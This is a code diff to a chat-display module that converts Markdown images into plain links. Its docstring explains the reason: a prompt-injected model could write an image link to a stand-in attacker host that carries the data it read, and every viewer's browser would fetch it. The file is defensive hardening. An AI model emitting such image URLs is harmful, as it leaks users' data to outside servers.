@@ -1,7 +1,10 @@
 """How model and user text is shown in the chat (pure).
 
 Text is shown as text: HTML outside code is escaped, so neither the model nor a
-user can put markup or script on anyone's page. Bare `\\boxed{}` answers (R1
+user can put markup or script on anyone's page. Markdown images become links: an
+image would be fetched by every viewer's browser, so a model (or a document that
+prompt-injected it) could send what it read to any server by writing
+`![x](https://attacker/?data=...)`. Bare `\\boxed{}` answers (R1
 often writes them outside math delimiters) are wrapped so that they render.
 """
 
@@ -12,6 +15,8 @@ import re
 # Code and math are shown verbatim or typeset: nothing inside them is escaped or wrapped.
 _PROTECTED = re.compile(r"(```.*?(?:```|\Z)|`[^`\n]*`|\$\$.*?\$\$|\\\[.*?\\\]|\\\(.*?\\\)|\$[^$\n]+\$)", re.DOTALL)
 _BOXED = "\\boxed{"
+# `![alt](url)` and `![alt][ref]`: the `!` makes Markdown fetch and show the target.
+_IMAGE = re.compile(r"!\[([^\]\n]*)\](?=[(\[])")
 
 
 def escape_html(text: str) -> str:
@@ -48,9 +53,14 @@ def wrap_boxed(text: str) -> str:
     return "".join(out)
 
 
+def images_as_links(text: str) -> str:
+    """Markdown images in plain text, turned into links to what they show."""
+    return _IMAGE.sub(lambda found: f"[🖼 {found.group(1).strip() or 'image'}]", text)
+
+
 def display(text: str) -> str:
     """Model or user text, ready for the chat's Markdown renderer."""
     parts = _PROTECTED.split(text)
     for index in range(0, len(parts), 2):  # even parts are plain text
-        parts[index] = wrap_boxed(escape_html(parts[index]))
+        parts[index] = wrap_boxed(images_as_links(escape_html(parts[index])))
     return "".join(parts).strip()
